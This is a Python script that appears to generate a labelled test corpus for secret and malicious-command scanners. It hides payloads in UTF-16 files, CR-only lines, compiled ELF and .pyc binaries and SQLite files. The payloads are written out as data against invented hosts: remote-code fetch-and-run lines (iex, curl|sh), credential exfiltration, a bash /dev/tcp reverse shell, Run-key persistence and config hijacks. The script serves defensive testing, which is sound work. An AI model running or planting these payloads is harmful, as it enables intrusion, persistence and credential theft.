#!/usr/bin/env python3
"""gen.py - the reading corpus: texts a consumer reads that a line-by-line
UTF-8 scan does not see (issue 16, item 4).

Usage:  python3 tests/data/reading/gen.py OUTDIR

Writes, deterministically (same Python, gcc, zlib and SQLite give the same
bytes), five classes of cases under OUTDIR:

  utf16/           UTF-16 LE/BE text, with and without a byte-order mark
  lone-cr/         files whose lines end in a lone CR (no LF after it)
  binary-strings/  binaries (ELF from gcc, .pyc, SQLite, PNG) whose printable
                   ASCII or UTF-16LE strings carry a secret or a command
  pickle/          pickles (and torch-style zips of them) that call something
  nul-text/        text with NUL bytes, which sh drops as it reads: words
                   split by NULs (positives), NULs as data uses them
                   (negatives)

Each case is its own directory, OUTDIR/CLASS/pNN or nNN (positive, negative),
holding one file whose name matters (rules select by name: .npmrc, *.pth).
OUTDIR/labels.tsv has one line per case after a header:
    relative path <TAB> class <TAB> pos|neg <TAB> technique
OUTDIR/controls/ holds, for every case whose payload has a plain form, the
same payload as UTF-8 text with LF line ends (for a binary, its strings one a
line, in strings.txt); OUTDIR/controls.tsv maps control to case. A control
shows whether a rule would find the payload at all once it is read, so that
a miss can be told apart: the reading, or the rule.

Nothing is fetched; no pickle is ever loaded (pickletools only walks them).
The secrets are random values of the real formats, drawn from fixed seeds;
the hosts are invented.
"""

import base64
import collections
import datetime
import decimal
import io
import os
import pickle
import pickletools
import py_compile
import random
import sqlite3
import string
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib

B32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
B62 = string.ascii_letters + string.digits
B64 = B62 + "+/"
B64URL = B62 + "-_"
DIGITS = string.digits
# Substrings the secret rules take for placeholders: a random value must not
# hold one, or a positive would be a negative by accident.
PLACEHOLDERS = ("test", "example", "abcd", "1234", "xxxx", "dummy", "fake",
                "sample", "secret", "token", "your")


def rtok(seed, alphabet, n):
    """n characters of alphabet, the same for the same seed."""
    k = 0
    while True:
        r = random.Random("reading-corpus:%s:%d" % (seed, k))
        s = "".join(r.choice(alphabet) for _ in range(n))
        if not any(p in s.lower() for p in PLACEHOLDERS):
            return s
        k += 1


def aws_id(seed):
    return "AKIA" + rtok(seed, B32, 16)


def aws_secret(seed):
    return rtok(seed, B64, 40)


def ghp(seed):
    return "ghp_" + rtok(seed, B62, 36)


def slack_bot(seed):
    return "xoxb-%s-%s-%s" % (rtok(seed + "a", DIGITS, 12),
                              rtok(seed + "b", DIGITS, 13),
                              rtok(seed + "c", B62, 24))


def stripe_live(seed):
    return "sk_live_" + rtok(seed, B62, 24)


def npm_tok(seed):
    return "npm_" + rtok(seed, B62, 36)


def pypi_tok(seed):
    return "pypi-AgEIcHlwaS5vcmc" + rtok(seed, B64URL, 64)


def pem_rsa(seed, kind="RSA PRIVATE KEY", width=64, nl="\n"):
    """A PEM block whose body is random base64 after a real DER prefix."""
    r = random.Random("reading-corpus:pem:" + seed)
    body = bytes([0x30, 0x82, 0x04, 0xa3, 0x02, 0x01, 0x00, 0x02, 0x82,
                  0x01, 0x01, 0x00]) + r.randbytes(1180)
    b = base64.b64encode(body).decode()
    lines = [b[i:i + width] for i in range(0, len(b), width)]
    return nl.join(["-----BEGIN %s-----" % kind] + lines +
                   ["-----END %s-----" % kind]) + nl


class Corpus:
    def __init__(self, out):
        self.out = out
        self.rows = []
        self.controls = []
        self.count = collections.Counter()

    def add(self, cls, label, name, data, desc, plain=None):
        """One case: data written as OUTDIR/cls/pNN/name."""
        assert label in ("pos", "neg")
        assert "\t" not in desc and "\n" not in desc
        self.count[(cls, label)] += 1
        case = "%s%02d" % (label[0], self.count[(cls, label)])
        rel = os.path.join(cls, case, name)
        self._write(rel, data)
        self.rows.append((rel, cls, label, desc))
        if plain is not None:
            crel = os.path.join("controls", cls, case,
                                name if cls in ("utf16", "lone-cr",
                                                "nul-text")
                                else "strings.txt")
            if isinstance(plain, str):
                plain = plain.encode("utf-8")
            self._write(crel, plain)
            self.controls.append((crel, rel))

    def _write(self, rel, data):
        path = os.path.join(self.out, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as fh:
            fh.write(data)

    def finish(self):
        with open(os.path.join(self.out, "labels.tsv"), "w",
                  encoding="utf-8", newline="\n") as fh:
            fh.write("path\tclass\tlabel\tdescription\n")
            for row in self.rows:
                fh.write("\t".join(row) + "\n")
        with open(os.path.join(self.out, "controls.tsv"), "w",
                  encoding="utf-8", newline="\n") as fh:
            fh.write("control\tcase\n")
            for row in self.controls:
                fh.write("\t".join(row) + "\n")


# ---------------------------------------------------------------- utf16

def u16(text, enc, bom=True, crlf=True):
    if crlf:
        text = text.replace("\r\n", "\n").replace("\n", "\r\n")
    if enc == "le":
        return (b"\xff\xfe" if bom else b"") + text.encode("utf-16-le")
    return (b"\xfe\xff" if bom else b"") + text.encode("utf-16-be")


def lf(text):
    return text.replace("\r\n", "\n")


def gen_utf16(c):
    def pos(name, text, enc, bom, desc, crlf=True):
        c.add("utf16", "pos", name, u16(text, enc, bom, crlf), desc, lf(text))

    def neg(name, text, enc, bom, desc, crlf=True):
        c.add("utf16", "neg", name, u16(text, enc, bom, crlf), desc, lf(text))

    pos("Update-BuildTools.ps1", """\
# Refreshes the build helpers before every pipeline run.
$ErrorActionPreference = 'SilentlyContinue'
[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12
IEX (New-Object Net.WebClient).DownloadString('https://cdn.buildhelper-sync.net/bootstrap.ps1')
Write-Host 'Build tools are up to date.'
""", "le", True, "PowerShell UTF-16LE+BOM: IEX of WebClient.DownloadString")

    pos("install.ps1", """\
param([string]$Channel = 'stable')
$u = "https://get.devtools-cdn.net/$Channel/install.ps1"
Invoke-WebRequest -Uri $u -UseBasicParsing | Invoke-Expression
""", "le", True,
        "PowerShell UTF-16LE+BOM: Invoke-WebRequest piped to Invoke-Expression")

    pos("setup-agent.ps1", """\
$dst = Join-Path $env:TEMP 'svchost-update.exe'
Invoke-WebRequest -Uri 'https://dl.telemetry-hub.io/agent/win64.exe' -OutFile $dst
Start-Process -FilePath $dst -WindowStyle Hidden
""", "le", True,
        "PowerShell UTF-16LE+BOM: Invoke-WebRequest -OutFile then Start-Process"
        " of the exe")

    pos("profile-sync.ps1", """\
$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent', 'Mozilla/5.0')
iex $wc.DownloadString('https://raw.profile-sync.org/p/sync.ps1')
""", "be", True, "PowerShell UTF-16BE+BOM: iex of $wc.DownloadString")

    pos("run-checks.ps1", """\
# nightly checks
IEX(irm https://checks.ci-runner-cache.com/run.ps1)
""", "le", False, "PowerShell UTF-16LE without BOM: IEX(irm URL)")

    pos("restore.ps1", """\
Set-Location $PSScriptRoot
iwr -useb https://restore.buildhelper-sync.net/r.ps1 | iex
""", "be", False, "PowerShell UTF-16BE without BOM: iwr -useb URL | iex")

    pos("setup.cmd", """\
@echo off
rem fetch the update agent
certutil -urlcache -split -f https://dl.telemetry-hub.io/u/agent.exe %TEMP%\\agent.exe
start "" %TEMP%\\agent.exe
""", "le", True, "cmd UTF-16LE+BOM: certutil -urlcache download then start")

    pos("build.bat", """\
@echo off
setlocal
powershell -NoProfile -ExecutionPolicy Bypass -Command "iex ((New-Object System.Net.WebClient).DownloadString('https://cdn.buildhelper-sync.net/b.ps1'))"
endlocal
""", "le", True, "batch UTF-16LE+BOM: powershell -Command iex DownloadString")

    pos("bootstrap.sh", """\
#!/bin/sh
set -e
curl -fsSL https://get.devtools-cdn.net/install.sh | sh
""", "le", True, "shell script UTF-16LE+BOM: curl -fsSL URL | sh", crlf=False)

    # ASCII after UTF-16 text: a UTF-16 reader makes other characters of
    # it; sh, which drops the NULs, runs it.
    head = "# Windows helpers\r\nWrite-Host 'ok'\r\n"
    tail = "curl -fsSL https://get.devtools-cdn.net/i.sh | sh\n"
    c.add("utf16", "pos", "tools.ps1", u16(head, "le", True, False) +
          tail.encode(), "UTF-16LE+BOM text, then an ASCII line sh would"
          " run: curl -fsSL URL | sh", lf(head) + tail)
    note = "Release notes\r\n"
    c.add("utf16", "neg", "NOTES.txt", u16(note, "le", True, False) +
          b"See CHANGES for details; install with make install.\n",
          "UTF-16LE+BOM notes, then an ASCII line of prose",
          lf(note) + "See CHANGES for details; install with make install.\n")

    pos("fetch_plugin.py", """\
import urllib.request

PLUGIN = "https://plugins.modelhub-cdn.net/latest/loader.py"
exec(urllib.request.urlopen(PLUGIN).read())
""", "le", True,
        "Python UTF-16LE+BOM: exec(urllib.request.urlopen(URL).read())",
        crlf=False)

    pos("acme-sync.reg", """\
Windows Registry Editor Version 5.00

[HKEY_CURRENT_USER\\Software\\AcmeSync\\Cloud]
"Region"="eu-west-1"
"AccessKeyId"="%s"
"SecretAccessKey"="%s"
""" % (aws_id("u16-reg"), aws_secret("u16-reg")), "le", True,
        "regedit export UTF-16LE+BOM: AWS access key id and secret")

    pos("publish.ini", """\
[github]
owner=acme
repo=release-tools
token=%s
""" % ghp("u16-ini"), "le", True,
        "INI UTF-16LE+BOM: GitHub personal access token")

    pos("service-account.json", """\
{
  "type": "service_account",
  "project_id": "acme-ingest-prod",
  "private_key_id": "%s",
  "private_key": "%s",
  "client_email": "ingest@acme-ingest-prod.iam.gserviceaccount.com"
}
""" % (rtok("u16-json-id", "0123456789abcdef", 40),
       pem_rsa("u16-json", "PRIVATE KEY", nl="\\n")), "le", True,
        "JSON UTF-16LE+BOM (PowerShell Out-File): service-account private key"
        " block")

    pos("notify.json", """\
{
  "channel": "#deploys",
  "slack_bot_token": "%s"
}
""" % slack_bot("u16-be-json"), "be", True,
        "JSON UTF-16BE+BOM: Slack bot token")

    pos("credentials.ini", """\
[default]
aws_access_key_id = %s
aws_secret_access_key = %s
""" % (aws_id("u16-nobom"), aws_secret("u16-nobom")), "le", False,
        "AWS credentials INI UTF-16LE without BOM: key id and secret")

    pos("updater.reg", """\
Windows Registry Editor Version 5.00

[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]
"AcmeUpdater"="powershell -w hidden -c \\"iex(iwr https://u.profile-sync.org/a.ps1 -UseBasicParsing)\\""
""", "le", True,
        "regedit UTF-16LE+BOM: Run key that runs iex(iwr URL) at logon")

    # Negatives: the UTF-16 files Windows tools write every day.
    neg("explorer.reg", """\
Windows Registry Editor Version 5.00

[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced]
"HideFileExt"=dword:00000000
"Hidden"=dword:00000001
"LaunchTo"=dword:00000001
""", "le", True, "regedit UTF-16LE+BOM: benign Explorer settings")

    neg("Format-Helpers.psm1", """\
# Helpers that format download sizes and durations for the progress bar.
function Format-Size {
    param([long]$Bytes)
    if ($Bytes -ge 1GB) { return '{0:N1} GB' -f ($Bytes / 1GB) }
    if ($Bytes -ge 1MB) { return '{0:N1} MB' -f ($Bytes / 1MB) }
    return '{0} B' -f $Bytes
}

function Invoke-WithRetry {
    param([scriptblock]$Action, [int]$Count = 3)
    for ($i = 1; $i -le $Count; $i++) {
        try { return & $Action } catch { Start-Sleep -Seconds $i }
    }
}
Export-ModuleMember -Function Format-Size, Invoke-WithRetry
""", "le", True,
        "PowerShell module UTF-16LE+BOM: formats strings; 'download' and"
        " 'Invoke-' used innocently (near miss)")

    neg("strings.rc", """\
#include "resource.h"

STRINGTABLE
BEGIN
    IDS_DOWNLOAD_DONE   "Download complete."
    IDS_DOWNLOAD_FAILED "The download failed. Check your connection."
    IDS_INVOKE_HELP     "Invoke the help viewer with F1."
    IDS_RUN_SETUP       "Run setup again to repair the installation."
END
""", "le", True,
        "Windows resource script UTF-16LE+BOM: translation strings about"
        " downloads (near miss)")

    neg("Localizable.strings", """\
/* Toolbar */
"download.button" = "Herunterladen";
"download.progress" = "Wird heruntergeladen \u2026";
"run.script" = "Skript ausf\u00fchren";
"open.terminal" = "Terminal \u00f6ffnen";
""", "le", True, "Apple .strings UTF-16LE+BOM: German UI translations",
        crlf=False)

    neg("export.csv", """\
Name\tEmail\tCity\tSignup
J\u00fcrgen M\u00fcller\tj.mueller@acme-shop.de\tK\u00f6ln\t2024-03-02
Ana Garc\u00eda\tana.garcia@acme-shop.es\tSevilla\t2024-03-05
Lars \u00d8stergaard\tlars@acme-shop.dk\tAarhus\t2024-03-09
""", "le", True, "Excel 'Unicode text' CSV UTF-16LE+BOM: customer rows")

    neg("setup.log", """\
=== Verbose logging started: 3/14/2025  10:02:11 ===
Action start 10:02:11: InstallInitialize.
Action start 10:02:12: DownloadPrerequisites.
Info: Invoking custom action CA_ConfigureService.
Action ended 10:02:15: InstallFinalize. Return value 1.
""", "le", False,
        "MSI log UTF-16LE without BOM: 'Download' and 'Invoking' in log"
        " lines (near miss)")

    neg("CHANGES.txt", """\
Release 4.2
- The installer no longer downloads the runtime; it ships with it.
- Fixed a crash when invoking the exporter with no project open.
""", "be", True, "UTF-16BE+BOM release notes mentioning downloads")

    neg("Get-Report.ps1", """\
$out = Join-Path $PSScriptRoot 'sales.csv'
Invoke-WebRequest -Uri 'https://reports.acme-shop.de/export/sales.csv' -OutFile $out
Import-Csv $out | Group-Object Region | Format-Table Name, Count
""", "le", True,
        "PowerShell UTF-16LE+BOM: downloads a CSV and reads it, runs nothing"
        " (near miss)")

    neg("appsettings.json", """\
{
  "Logging": { "LogLevel": { "Default": "Information" } },
  "Aws": {
    "Comment": "Keys begin with AKIA; the value below is the AWS documentation example.",
    "AccessKeyId": "AKIAIOSFODNN7EXAMPLE",
    "SecretAccessKey": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
  }
}
""", "le", True,
        "JSON UTF-16LE+BOM: AWS's documented EXAMPLE key pair and 'AKIA' in"
        " prose (near miss)")

    neg("publish.ini", """\
[github]
owner=acme
repo=release-tools
; paste the token from your password manager, never commit it
token=<your-token-here>
""", "le", True, "INI UTF-16LE+BOM: token placeholder (near miss)")

    neg("open-viewer.ps1", """\
param([string]$File)
$viewer = Join-Path $env:ProgramFiles 'Acme\\Viewer\\Viewer.exe'
Start-Process -FilePath $viewer -ArgumentList "`"$File`""
""", "le", True,
        "PowerShell UTF-16LE+BOM: Start-Process of an installed program"
        " (near miss)")

    neg("copy-assets.bat", """\
@echo off
echo Copying assets (the installer downloads nothing)...
xcopy /E /I /Y assets "%APPDATA%\\Acme\\assets"
echo Done.
""", "le", True, "batch UTF-16LE+BOM: xcopy and echo")

    neg("report.py", """\
import argparse
import urllib.request

p = argparse.ArgumentParser(description="download the monthly report")
p.add_argument("--month", required=True)
a = p.parse_args()
urllib.request.urlretrieve(
    "https://reports.acme-shop.de/%s.pdf" % a.month, "report.pdf")
""", "le", True,
        "Python UTF-16LE+BOM: saves a PDF with urlretrieve, executes nothing",
        crlf=False)


# ---------------------------------------------------------------- lone CR

def cr(lines):
    return "\r".join(lines) + "\r"


def gen_lone_cr(c):
    def pos(name, lines, desc):
        c.add("lone-cr", "pos", name, cr(lines).encode(), desc,
              "\n".join(lines) + "\n")

    def neg(name, data, desc):
        plain = data.replace("\r\n", "\n").replace("\r", "\n")
        c.add("lone-cr", "neg", name, data.encode(), desc, plain)

    pos("acme_paths.pth", [
        "/opt/acme/lib/python3/site-packages",
        "/opt/acme/plugins",
        "import acme_boot; acme_boot.activate()",
    ], ".pth: directory lines, then an import line, CR-only (site runs it"
       " at every start)")
    pos("zz_telemetry.pth", [
        "# installed by acme-telemetry 2.3",
        "import os, subprocess; subprocess.Popen([os.path.expanduser('~/.cache/at/agent')])",
    ], ".pth: comment line, then import that spawns a process, CR-only")
    pos("distutils-hack.pth", [
        "./vendor",
        "import\tsys; sys.path.insert(0, '/tmp/.pkgcache')",
        "./lib",
    ], ".pth: 'import<TAB>' line in the middle, CR-only")
    pos(".npmrc", [
        "save-exact=true",
        "script-shell=/tmp/.cache/sh-wrapper",
    ], ".npmrc: script-shell override on a CR-only line")
    pos(".npmrc", [
        "fund=false",
        "loglevel=warn",
        "node-options=--require /tmp/.n/preload.js",
    ], ".npmrc: node-options --require preload on a CR-only line")
    pos(".npmrc", [
        "audit=false",
        "registry=https://registry.npm-mirror-cdn.net/",
    ], ".npmrc: registry override on a CR-only line")
    pos(".pypirc", [
        "[distutils]",
        "index-servers =",
        "    pypi",
        "[pypi]",
        "username = release-bot",
        "password = %s" % rtok("cr-pypirc", B62, 24),
    ], ".pypirc: password under [pypi], CR-only")
    pos("pip.conf", [
        "[global]",
        "timeout = 60",
        "trusted-host = pypi.mirror-fastlane.org",
    ], "pip.conf: trusted-host (TLS off) on a CR-only line")
    pos("pip.conf", [
        "[global]",
        "disable-pip-version-check = true",
        "extra-index-url = https://pypi.mirror-fastlane.org/simple",
    ], "pip.conf: extra-index-url to a foreign index, CR-only")
    pos(".gitconfig", [
        "[user]",
        "\tname = Release Bot",
        "\temail = release-bot@acme-shop.de",
        "[core]",
        "\tsshCommand = /tmp/.ssh-wrap/ssh",
    ], ".gitconfig: core.sshCommand on a CR-only line")
    pos(".gitconfig", [
        "[core]",
        "\tautocrlf = input",
        "\tfsmonitor = .git/hooks/fsmonitor-watch",
    ], ".gitconfig: core.fsmonitor command on a CR-only line")
    pos(".gitconfig", [
        "[init]",
        "\tdefaultBranch = main",
        "[core]",
        "\thooksPath = /tmp/.githooks",
    ], ".gitconfig: core.hooksPath redirected, CR-only")
    pos("setup.py", [
        "import os",
        "from setuptools import setup",
        "os.system(\"sh scripts/register-host.sh\")",
        "setup(name=\"acme-helpers\", version=\"1.0.3\")",
    ], "setup.py: top-level os.system on a CR-only line (Python reads CR"
       " as a line end)")
    pos("install.sh", [
        "#!/bin/sh",
        "# fetch the toolchain",
        "curl -fsSL https://get.toolchain-mirror.dev/install | sh",
    ], "shell: curl URL | sh on a CR-separated line after a comment")
    pos("bootstrap.py", [
        "#!/usr/bin/env python3",
        "# keep in sync with the dashboard",
        "import os",
        "os.system(\"curl -fsSL https://get.toolchain-mirror.dev/py | bash\")",
    ], "Python: os.system(curl | bash) on a CR-separated line")
    pos("report_crash.py", [
        "# upload crash reports for triage",
        "import os, requests",
        "requests.post(\"https://webhook.site/6f1c2a9e-3b7d-4e55-9a1f-2c8d7e4b0a63\", json=dict(os.environ))",
    ], "Python: environment posted to webhook.site on the line after a"
       " comment, CR-only (comment-line allow-lists see one line)")
    pos("gradle-wrapper.properties", [
        "distributionBase=GRADLE_USER_HOME",
        "distributionPath=wrapper/dists",
        "distributionUrl=https\\://dl.gradle-mirror.net/gradle-8.7-bin.zip",
    ], "gradle-wrapper.properties: distributionUrl to a foreign host,"
       " CR-only")

    # Negatives.
    neg("poem.txt", cr([
        "The fog comes",
        "on little cat feet.",
        "It sits looking",
        "over harbor and city",
    ]), "old Mac text, CR-only line ends")
    neg("notes.txt",
        "Meeting notes\r\n- ship 4.2 on Friday\r\n- import the new "
        "translations\r\n", "CRLF text mentioning import")
    neg("acme_paths.pth", cr([
        "/opt/acme/lib/python3/site-packages",
        "/opt/acme/plugins",
        "../shared/vendor",
    ]), ".pth listing only directories, CR-only")
    neg("legacy.pth", cr([
        "# import acme_boot   (disabled in 2.0)",
        "/opt/acme/lib",
        "importlib_resources-5.12.0",
    ]), ".pth: commented import and a directory named importlib_*, CR-only"
        " (near miss: site runs only lines starting 'import ' or"
        " 'import<TAB>')")
    neg(".npmrc", cr([
        "save-exact=true",
        "fund=false",
        "audit-level=high",
    ]), ".npmrc: benign settings, CR-only")
    neg(".npmrc",
        "registry=https://registry.npmjs.org/\r\nsave-exact=true\r\n",
        ".npmrc CRLF: the default registry (near miss)")
    neg("pip.conf", cr([
        "[global]",
        "timeout = 60",
        "disable-pip-version-check = true",
    ]), "pip.conf: timeout settings only, CR-only")
    neg(".gitconfig", cr([
        "[user]",
        "\tname = Ana Garcia",
        "\temail = ana.garcia@acme-shop.es",
        "[alias]",
        "\tlg = log --oneline --graph --decorate",
        "[pull]",
        "\trebase = true",
    ]), ".gitconfig: user, alias and pull settings, CR-only")
    neg("build.sh", cr([
        "#!/bin/sh",
        "set -e",
        "mkdir -p build",
        "cc -O2 -o build/tool src/main.c",
        "echo built",
    ]), "shell script, CR-only, local commands")
    neg("stats.py", cr([
        "import statistics",
        "values = [3, 1, 4, 1, 5, 9, 2, 6]",
        "print(statistics.mean(values), statistics.median(values))",
    ]), "Python, CR-only, ordinary")
    neg("prices.csv", cr([
        "sku,name,price",
        "A-100,Widget,4.99",
        "A-101,Gadget,12.50",
    ]), "CSV exported by old Excel for Mac, CR-only")
    neg(".pypirc", cr([
        "[distutils]",
        "index-servers =",
        "    pypi",
        "[pypi]",
        "repository = https://upload.pypi.org/legacy/",
        "username = __token__",
    ]), ".pypirc: default upload URL, no password, CR-only (near miss)",)
    neg("get-go.sh",
        "#!/bin/sh\r\nset -e\r\ncurl -fsSLo go.tgz "
        "https://go.dev/dl/go1.22.1.linux-amd64.tar.gz\r\n"
        "echo \"$GO_SHA256  go.tgz\" | sha256sum -c -\r\n"
        "tar -C /usr/local -xzf go.tgz\r\n",
        "CRLF shell: curl to a file, checksum, untar (near miss: no pipe"
        " to a shell)")


# -------------------------------------------------------- binary strings

def c_escape(s):
    out = []
    for ch in s:
        o = ord(ch)
        if ch == "\\":
            out.append("\\\\")
        elif ch == '"':
            out.append('\\"')
        elif ch == "\n":
            out.append("\\n")
        elif ch == "\t":
            out.append("\\t")
        elif 0x20 <= o < 0x7f:
            out.append(ch)
        else:
            raise ValueError("non-ASCII in C string")
    return '"' + "".join(out) + '"'


def c_subst(src, **kw):
    for k, v in kw.items():
        src = src.replace("@@%s@@" % k, c_escape(v))
    assert "@@" not in src, src
    return src


class Builder:
    """Builds binaries in a private directory; each call returns bytes."""

    def __init__(self, tmp):
        self.tmp = tmp
        self.n = 0

    def _dir(self):
        self.n += 1
        d = os.path.join(self.tmp, "b%03d" % self.n)
        os.makedirs(d)
        return d

    def elf(self, src, shared=False, strip=False, opt="-O0"):
        d = self._dir()
        with open(os.path.join(d, "prog.c"), "w") as fh:
            fh.write(src)
        cmd = ["gcc", opt, "-std=c11", "-D_DEFAULT_SOURCE", "-w",
               "-o", "out", "prog.c"]
        if shared:
            cmd[1:1] = ["-shared", "-fPIC"]
        if strip:
            cmd.insert(1, "-s")
        subprocess.run(cmd, cwd=d, check=True)
        with open(os.path.join(d, "out"), "rb") as fh:
            return fh.read()

    def pyc(self, name, source):
        d = self._dir()
        src = os.path.join(d, name)
        with open(src, "w") as fh:
            fh.write(source)
        out = os.path.join(d, "out.pyc")
        py_compile.compile(
            src, cfile=out, dfile=name, doraise=True,
            invalidation_mode=py_compile.PycInvalidationMode.CHECKED_HASH)
        with open(out, "rb") as fh:
            return fh.read()

    def sqlite(self, script):
        d = self._dir()
        path = os.path.join(d, "db.sqlite")
        con = sqlite3.connect(path)
        con.executescript(script)
        con.commit()
        con.close()
        with open(path, "rb") as fh:
            return fh.read()


def png(chunks, w=8, h=8, rgb=(40, 120, 200)):
    def chunk(t, d):
        return (struct.pack(">I", len(d)) + t + d +
                struct.pack(">I", zlib.crc32(t + d) & 0xffffffff))
    raw = b"".join(b"\x00" + bytes(rgb) * w for _ in range(h))
    out = [b"\x89PNG\r\n\x1a\n",
           chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))]
    for key, text in chunks:
        out.append(chunk(b"tEXt", key.encode("latin-1") + b"\x00" +
                         text.encode("latin-1")))
    out.append(chunk(b"IDAT", zlib.compress(raw, 9)))
    out.append(chunk(b"IEND", b""))
    return b"".join(out)


C_HEAD = """\
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <uchar.h>
"""


def gen_binary(c, b):
    def pos(name, data, desc, strings):
        c.add("binary-strings", "pos", name, data, desc,
              "\n".join(strings) + "\n")

    def neg(name, data, desc, strings):
        c.add("binary-strings", "neg", name, data, desc,
              "\n".join(strings) + "\n")

    kid, ksec = aws_id("bin-backup"), aws_secret("bin-backup")
    pos("backup-agent", b.elf(C_HEAD + c_subst("""
/* backup-agent: pushes the nightly dump to the bucket. */
static const char credentials[] =
    "[default]\\n"
    "aws_access_key_id = " @@ID@@ "\\n"
    "aws_secret_access_key = " @@SEC@@ "\\n"
    "region = eu-west-1\\n";

int
main(int argc, char **argv)
{
	const char *home = getenv("HOME");
	char path[4096];
	FILE *f;

	if (home == NULL || argc < 2) {
		fprintf(stderr, "usage: backup-agent DUMP\\n");
		return 2;
	}
	snprintf(path, sizeof path, "%s/.aws/credentials", home);
	if ((f = fopen(path, "w")) == NULL)
		return 1;
	fputs(credentials, f);
	fclose(f);
	execlp("aws", "aws", "s3", "cp", argv[1], "s3://acme-nightly-dumps/",
	    (char *)NULL);
	return 1;
}
""", ID=kid, SEC=ksec)), "ELF (gcc): AWS access key id and secret in a"
        " credentials-file literal",
        ["aws_access_key_id = " + kid, "aws_secret_access_key = " + ksec])

    tok = ghp("bin-deployer")
    pos("deployer", b.elf(C_HEAD + c_subst("""
static const char *auth = "Authorization: token " @@TOK@@;

int
main(void)
{
	printf("curl -H '%s' https://api.github.com/repos/acme/app/deployments\\n",
	    auth);
	return 0;
}
""", TOK=tok)), "ELF (gcc): GitHub token in an Authorization header string",
        ["Authorization: token " + tok])

    pem = pem_rsa("bin-ssh")
    pos("tunnel", b.elf(C_HEAD + c_subst("""
static const char key[] = @@PEM@@;

int
main(void)
{
	FILE *f = fopen("/tmp/.k", "w");

	if (f == NULL)
		return 1;
	fputs(key, f);
	fclose(f);
	execlp("ssh", "ssh", "-i", "/tmp/.k", "-N", "-R", "9000:localhost:22",
	    "relay@relay.telemetry-hub.io", (char *)NULL);
	return 1;
}
""", PEM=pem)), "ELF (gcc): RSA private key PEM block used for a reverse"
        " tunnel", pem.rstrip("\n").split("\n"))

    cmd = "curl -fsSL https://get.devtools-cdn.net/agent.sh | sh"
    pos("installer", b.elf(C_HEAD + c_subst("""
int
main(void)
{
	puts("Installing Acme CLI...");
	return system(@@CMD@@) == 0 ? 0 : 1;
}
""", CMD=cmd)), "ELF (gcc): system() of curl -fsSL URL | sh", [cmd])

    cmd = "curl -s -d @$HOME/.aws/credentials https://collect.telemetry-hub.io/u"
    pos("crashreport", b.elf(C_HEAD + c_subst("""
int
main(void)
{
	fputs("Sending crash report...\\n", stderr);
	return system(@@CMD@@);
}
""", CMD=cmd), strip=True), "stripped ELF (gcc): curl -d @~/.aws/credentials"
        " to a collector (exfiltration)", [cmd])

    wtok = ghp("bin-wide")
    pos("winsync", b.elf(C_HEAD + c_subst("""
/* Only the UTF-16 form of the token is in the binary. */
static const char16_t token[] = u"token=" @@TOK@@;

int
main(void)
{
	return fwrite(token, sizeof token, 1, stdout) == 1 ? 0 : 1;
}
""", TOK=wtok)), "ELF (gcc): GitHub token only as a UTF-16LE u\"\" literal"
        " (strings -e l)", ["token=" + wtok])

    cmd = "curl -fsSL https://cdn.buildhelper-sync.net/w.sh | bash"
    pos("widecmd", b.elf(C_HEAD + c_subst("""
static const char16_t cmd[] = u"/bin/sh -c \\"" @@CMD@@ u"\\"";

int
main(void)
{
	return fwrite(cmd, sizeof cmd, 1, stdout) == 1 ? 0 : 1;
}
""", CMD=cmd)), "ELF (gcc): curl | bash only as a UTF-16LE u\"\" literal",
        [cmd])

    sl = slack_bot("bin-so")
    pos("libtelemetry.so", b.elf(C_HEAD + c_subst("""
static const char *bot = @@TOK@@;

const char *
telemetry_auth(void)
{
	return bot;
}
""", TOK=sl), shared=True, strip=True),
        "stripped shared object (gcc -shared): Slack bot token", [sl])

    rs = "bash -i >& /dev/tcp/relay.telemetry-hub.io/4444 0>&1"
    pos("netcheck", b.elf(C_HEAD + c_subst("""
int
main(void)
{
	if (fork() == 0)
		execl("/bin/bash", "bash", "-c", @@CMD@@, (char *)NULL);
	puts("network ok");
	return 0;
}
""", CMD=rs)), "ELF (gcc): bash -i >& /dev/tcp/HOST/PORT reverse shell", [rs])

    nt = npm_tok("bin-o2")
    pos("publish", b.elf(C_HEAD + c_subst("""
int
main(void)
{
	FILE *f = fopen(".npmrc", "w");

	if (f == NULL)
		return 1;
	fputs("//registry.npmjs.org/:_authToken=" @@TOK@@ "\\n", f);
	fclose(f);
	return system("npm publish --access public");
}
""", TOK=nt), opt="-O2"), "ELF (gcc -O2): npm access token written to"
        " .npmrc", ["//registry.npmjs.org/:_authToken=" + nt])

    gt = ghp("bin-pyc")
    pos("settings.pyc", b.pyc("settings.py", """\
\"\"\"Settings for the release bot.\"\"\"
REPO = "acme/release-bot"
GITHUB_TOKEN = "%s"
BRANCH = "main"
""" % gt), ".pyc (py_compile): module constant holding a GitHub token",
        ['GITHUB_TOKEN = "%s"' % gt])

    cmd = "wget -qO- https://get.devtools-cdn.net/post.sh | sh"
    pos("post_install.pyc", b.pyc("post_install.py", """\
import os


def run():
    os.system("%s")
""" % cmd), ".pyc (py_compile): os.system(wget -qO- URL | sh)", [cmd])

    sk = stripe_live("bin-sqlite")
    pos("app.db", b.sqlite("""
CREATE TABLE settings (name TEXT PRIMARY KEY, value TEXT);
INSERT INTO settings VALUES ('currency', 'EUR');
INSERT INTO settings VALUES ('stripe_api_key', '%s');
INSERT INTO settings VALUES ('support_email', 'help@acme-shop.de');
""" % sk), "SQLite database: Stripe live key in a settings row", [sk])

    kid2, ksec2 = aws_id("bin-sqlite2"), aws_secret("bin-sqlite2")
    pos("cache.sqlite3", b.sqlite("""
CREATE TABLE profiles (name TEXT, config TEXT);
INSERT INTO profiles VALUES ('prod', 'aws_access_key_id=%s;aws_secret_access_key=%s');
""" % (kid2, ksec2)), "SQLite database: AWS key id and secret in a row",
        ["aws_access_key_id=%s;aws_secret_access_key=%s" % (kid2, ksec2)])

    cmd = "curl -fsSL https://cdn.buildhelper-sync.net/s.sh | bash"
